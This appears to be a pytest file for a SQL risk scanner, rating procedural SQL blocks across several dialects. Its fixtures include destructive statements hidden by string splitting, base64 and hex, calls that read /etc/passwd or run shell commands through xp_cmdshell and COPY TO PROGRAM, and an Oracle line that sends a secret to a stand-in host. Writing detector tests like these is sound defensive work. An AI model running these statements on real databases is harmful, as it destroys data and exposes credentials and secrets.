"""Procedural code is judged by the SQL that it runs, and by the text that it builds and runs."""

import pytest

from workbench.domain.risk import RiskLevel
from workbench.facts.finding import Finding, medium
from workbench.facts.scope import Limits, Scope
from workbench.facts.sql.procedural import read_block, script
from workbench.facts.sql.read import read

_LEVELS = {"L": RiskLevel.LOW, "M": RiskLevel.MEDIUM, "H": RiskLevel.HIGH}


def _read(text: str, dialect: str, scope: Scope) -> list[Finding]:
    return [medium(dialect, text)] if dialect in {"bash", "python"} else read(text, dialect, scope)


def _findings(text: str, dialect: str) -> list[Finding]:
    return read_block(text, dialect, Scope(_read, Limits(time_ms=5_000)))


def _risk(text: str, dialect: str) -> RiskLevel:
    return max((finding.risk for finding in _findings(text, dialect)), default=RiskLevel.LOW)


def _cases(table: str) -> list[tuple[str, str]]:
    return [(line[0], line[2:]) for line in table.strip().splitlines()]


PLPGSQL = r"""
L BEGIN RAISE NOTICE 'DROP TABLE orders'; END
L DECLARE a int := 1; BEGIN a := a + 1; END
H BEGIN DELETE FROM orders; END
M BEGIN DELETE FROM orders WHERE id = 7; END
M BEGIN IF EXISTS (SELECT 1 FROM t) THEN INSERT INTO a VALUES (1); END IF; END
H BEGIN IF a THEN NULL; ELSE DROP TABLE orders; END IF; END
H DECLARE r record; BEGIN FOR r IN SELECT 1 LOOP TRUNCATE orders; END LOOP; END
H BEGIN EXECUTE 'DROP TABLE orders'; END
L BEGIN EXECUTE 'SELECT 1'; END
L BEGIN EXECUTE 'SELECT ' || '1' INTO a; END
H BEGIN EXECUTE 'DR' || 'OP TABLE ' || 'orders'; END
H BEGIN EXECUTE format('DROP TABLE %I', name); END
M BEGIN EXECUTE format('ANALYZE %I.%I', s, t); END
M BEGIN EXECUTE 'ANALYZE ' || quote_ident(t); END
H BEGIN EXECUTE 'ANALYZE ' || t; END
H BEGIN EXECUTE q; END
H DECLARE q text := 'DROP TABLE orders'; BEGIN EXECUTE q; END
L DECLARE q text := 'SELECT 1'; BEGIN EXECUTE q; END
H DECLARE q text; BEGIN q := 'SELECT'; q := 'DELETE FROM '; q := q || 'orders'; EXECUTE q; END
H BEGIN EXECUTE convert_from(decode('RFJPUA==', 'base64'), 'UTF8'); END
H BEGIN EXECUTE chr(68) || chr(82) || 'OP TABLE t'; END
H BEGIN PERFORM pg_read_file('/etc/passwd'); END
L BEGIN PERFORM 1; END
H BEGIN RETURN QUERY EXECUTE 'DELETE FROM orders RETURNING 1'; END
H BEGIN SELECT 1; EXCEPTION WHEN others THEN DROP TABLE orders; END
H BEGIN FOR r IN EXECUTE 'DELETE FROM orders RETURNING *' LOOP NULL; END LOOP; END
H BEGIN COPY t TO PROGRAM 'id'; END
L DECLARE n int; BEGIN SELECT a INTO n FROM orders; SELECT * FROM orders INTO n; END
H DECLARE q text; BEGIN SELECT 'DROP TABLE t' INTO q; EXECUTE q; END
H DECLARE q text; BEGIN SELECT body INTO q FROM jobs; EXECUTE q; END
H BEGIN SELECT pg_read_file('/etc/passwd') INTO q; END
L BEGIN CREATE TEMP TABLE scratch (a int); END
L CREATE TEMP TABLE scratch (a int); DROP TABLE scratch
"""
TSQL = r"""
L DECLARE @a int = 1 SELECT @a PRINT 'DROP TABLE t'
H SELECT 1 DROP TABLE orders
H IF 1 = 1 DROP TABLE orders ELSE PRINT 'x'
L IF NOT EXISTS (SELECT 1 FROM sys.tables) BEGIN PRINT 'DELETE FROM t' END
H BEGIN TRY DELETE FROM orders END TRY BEGIN CATCH THROW END CATCH
M BEGIN TRAN UPDATE orders SET a = 1 WHERE id = 2 COMMIT
H BEGIN TRANSACTION UPDATE orders SET a = 1 COMMIT
H WHILE @i < 10 BEGIN DELETE FROM orders SET @i += 1 END
M INSERT INTO a SELECT * FROM b WHERE id = 1
M MERGE a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET x = 1 WHEN NOT MATCHED THEN INSERT (x) VALUES (1);
M ALTER TABLE a DROP CONSTRAINT c ALTER TABLE a ADD d int
H GRANT SELECT, DELETE ON a TO b
H DECLARE @s nvarchar(max) = N'DROP ' SET @s += N'TABLE orders' EXEC (@s)
H DECLARE @s varchar(99) SELECT @s = 'DROP TABLE orders' EXEC sp_executesql @s
L DECLARE @s varchar(99) SET @s = 'SELECT 1' EXEC (@s)
H DECLARE @s varchar(99) SET @s = 'SELECT * FROM ' + @t EXEC (@s)
M DECLARE @s varchar(99) SET @s = 'UPDATE STATISTICS ' + QUOTENAME(@t) EXEC (@s)
H DECLARE @s varchar(99) = CAST(0x44524F50 AS varchar(99)) EXEC (@s)
L DECLARE @p sysname = 'sp_who' EXEC @p
H DECLARE @p sysname = @x EXEC @p
H EXEC ('EXEC (''DROP TABLE orders'')')
M IF OBJECT_ID('p') IS NULL EXEC ('CREATE PROCEDURE p AS RETURN 0')
M CREATE PROCEDURE p AS DELETE FROM orders SELECT 1
H CREATE PROCEDURE p AS EXEC xp_cmdshell 'dir'
H CREATE TRIGGER t ON a AFTER INSERT AS BEGIN DELETE FROM b END
M CREATE TRIGGER t ON a AFTER INSERT AS UPDATE b SET x = 1 WHERE id = 3
M DECLARE c CURSOR FOR SELECT a FROM b OPEN c FETCH NEXT FROM c INTO @a CLOSE c DEALLOCATE c
H EXEC sp_execute_external_script @language = N'R', @script = @s
M EXEC sp_execute_external_script @language = N'R', @script = N'mean(x)' WITH RESULT SETS ((a int))
L GOTO done done: PRINT 'x'
L SELECT CASE WHEN 1 = 1 THEN 'DROP TABLE t' END, (SELECT 1)
H EXEC ('DROP TABLE orders') AT other
L DECLARE @t TABLE (a int) INSERT INTO @t VALUES (1) UPDATE @t SET a = 2 DELETE FROM @t
M INSERT INTO a EXEC sp_who
H INSERT INTO a (x, y) EXEC ('DROP TABLE orders')
H INSERT @t EXEC xp_cmdshell 'dir'
M SELECT a FROM b UNION ALL SELECT a FROM c
L SELECT TOP 5 a FROM b WHERE id IN (1, 2) OPTION (RECOMPILE)
L ;WITH x AS (SELECT 1 AS a) SELECT a FROM x
"""
ORACLE = r"""
L BEGIN dbms_output.put_line('DROP TABLE t'); END;
H BEGIN EXECUTE IMMEDIATE 'DROP TABLE orders'; END;
H BEGIN EXECUTE IMMEDIATE 'GR' || 'ANT dba TO ' || 'scott'; END;
H BEGIN EXECUTE IMMEDIATE q'[DROP TABLE orders]'; END;
L DECLARE n NUMBER; BEGIN EXECUTE IMMEDIATE 'SELECT 1 FROM dual' INTO n; END;
H DECLARE s VARCHAR2(99) := 'TRUNCATE TABLE '; BEGIN s := s || 'orders'; EXECUTE IMMEDIATE s; END;
H DECLARE c INTEGER; BEGIN DBMS_SQL.PARSE(c, 'DROP TABLE orders', DBMS_SQL.NATIVE); END;
H BEGIN dbms_utility.exec_ddl_statement('drop table orders'); END;
H BEGIN EXECUTE IMMEDIATE utl_raw.cast_to_varchar2(hextoraw('44524F50')); END;
H BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'j', job_type => 'PLSQL_BLOCK', job_action => 'BEGIN NULL; END;'); END;
M BEGIN my_pkg.run(1); END;
M DECLARE CURSOR c IS SELECT * FROM orders; BEGIN FOR r IN c LOOP NULL; END LOOP; END;
L DECLARE PROCEDURE p IS BEGIN NULL; END; BEGIN p; END;
H DECLARE PROCEDURE p IS BEGIN DELETE FROM orders; END; BEGIN p; END;
M BEGIN FORALL i IN 1..3 DELETE FROM orders WHERE id = x(i); END;
H BEGIN x := utl_http.request('http://a.example/' || secret); END;
L DECLARE t names := names('a'); BEGIN t.EXTEND; t.DELETE(1); END;
H BEGIN OPEN c FOR 'DELETE FROM ' || t; END;
"""
OTHERS = r"""
mysql H SET @q = CONCAT('TRUN', 'CATE orders'); PREPARE p FROM @q; EXECUTE p
mysql M SET @q = 'SELECT 1'; PREPARE p FROM @q; EXECUTE p; SELECT * FROM t
mysql L SET @q = 'SELECT 1'; PREPARE p FROM @q; EXECUTE p; DEALLOCATE PREPARE p
mysql H PREPARE p FROM @given; EXECUTE p
mysql H BEGIN DECLARE EXIT HANDLER FOR SQLEXCEPTION BEGIN TRUNCATE TABLE a; END; SELECT 1; END
mysql H BEGIN CASE a WHEN 1 THEN DELETE FROM orders; ELSE SELECT 1; END CASE; END
mysql H outer_loop: LOOP DELETE FROM orders; LEAVE outer_loop; END LOOP
mysql L BEGIN DECLARE a INT DEFAULT 0; WHILE a < 3 DO SET a = a + 1; END WHILE; END
postgres L PREPARE p AS SELECT 1; EXECUTE p
postgres H PREPARE p AS DELETE FROM orders; EXECUTE p
bigquery H DECLARE q STRING DEFAULT 'DROP TABLE d.t'; EXECUTE IMMEDIATE q
bigquery H EXECUTE IMMEDIATE CONCAT('DEL', 'ETE FROM d.t WHERE true')
bigquery L EXECUTE IMMEDIATE 'SELECT @a' USING 1 AS a
bigquery H FOR r IN (SELECT 1 AS a) DO TRUNCATE TABLE d.t; END FOR
snowflake H EXECUTE IMMEDIATE $$ BEGIN DROP TABLE orders; END $$
snowflake H BEGIN LET q STRING := 'DROP TABLE ' || 'orders'; EXECUTE IMMEDIATE q; END
"""


@pytest.mark.parametrize(("level", "text"), _cases(PLPGSQL))
def test_plpgsql(level: str, text: str) -> None:
    """A block is as bad as the worst statement in it; what is raised or only named does not run."""
    assert _risk(text, "postgres") is _LEVELS[level]


@pytest.mark.parametrize(("level", "text"), _cases(TSQL))
def test_tsql_needs_no_semicolons(level: str, text: str) -> None:
    """A statement ends where a word begins the next; control flow hides nothing."""
    assert _risk(text, "mssql") is _LEVELS[level]


@pytest.mark.parametrize(("level", "text"), _cases(ORACLE))
def test_plsql(level: str, text: str) -> None:
    """Local routines are read in place, supplied packages by what they do."""
    assert _risk(text, "oracle") is _LEVELS[level]


@pytest.mark.parametrize("case", OTHERS.strip().splitlines())
def test_scripts_of_other_dialects(case: str) -> None:
    """Text that one statement builds and another runs is read as one."""
    dialect, level, text = case.split(" ", 2)
    assert _risk(text, dialect) is _LEVELS[level]


@pytest.mark.parametrize(
    ("dialect", "text", "expected"),
    [
        ("mssql", "SELECT 1 DROP TABLE t", True), ("mssql", "SELECT 1; DROP TABLE t", False),
        ("mssql", "EXEC p", True), ("mysql", "SET @a = 'x'; PREPARE p FROM @a", True),
        ("mysql", "SELECT 1; SELECT 2", False),
        ("mysql", "SELECT 'PREPARE p FROM @a'", False), ("bigquery", "EXECUTE IMMEDIATE 'SELECT 1'", True),
        ("postgres", "PREPARE p AS SELECT 1", False), ("postgres", "PREPARE p AS SELECT 1; EXECUTE p", True),
    ],
)  # fmt: skip
def test_what_must_be_read_whole(dialect: str, text: str, expected: bool) -> None:
    """A script is a text whose statements depend on each other, or are not parted by semicolons."""
    assert (script(text, dialect) is not None) is expected


def test_text_that_hides_its_verb_is_unresolved() -> None:
    """Text that nothing is known of is said to be unread, not only risky."""
    assert [(f.risk, f.unresolved) for f in _findings("BEGIN EXECUTE q; END", "postgres")] == [(RiskLevel.HIGH, True)]


def test_a_variable_that_doubles_itself_does_not_grow_without_end() -> None:
    """Assembled text is cut, however often it is appended to itself."""
    text = "DECLARE @s varchar(max) = 'xxxxxxxxxx' " + "SET @s = @s + @s " * 200 + "EXEC (@s)"
    assert _risk(text, "mssql") is RiskLevel.MEDIUM


@pytest.mark.parametrize(
    "unit",
    [
        "BEGIN ",
        "IF a THEN ",
        "EXEC('",
        "EXECUTE IMMEDIATE (",
        "DECLARE @a int = (",
        "CONCAT(",
        "a := b || (",
        "<<",
        "FOR r IN (",
    ],
)
@pytest.mark.parametrize("dialect", ["postgres", "mysql", "mssql", "oracle", "snowflake", "bigquery"])
def test_hostile_sizes_are_answered(unit: str, dialect: str) -> None:
    """No code makes the reader raise or recurse without end."""
    assert isinstance(read_block(unit * (30_000 // len(unit)), dialect, Scope(_read, Limits())), list)
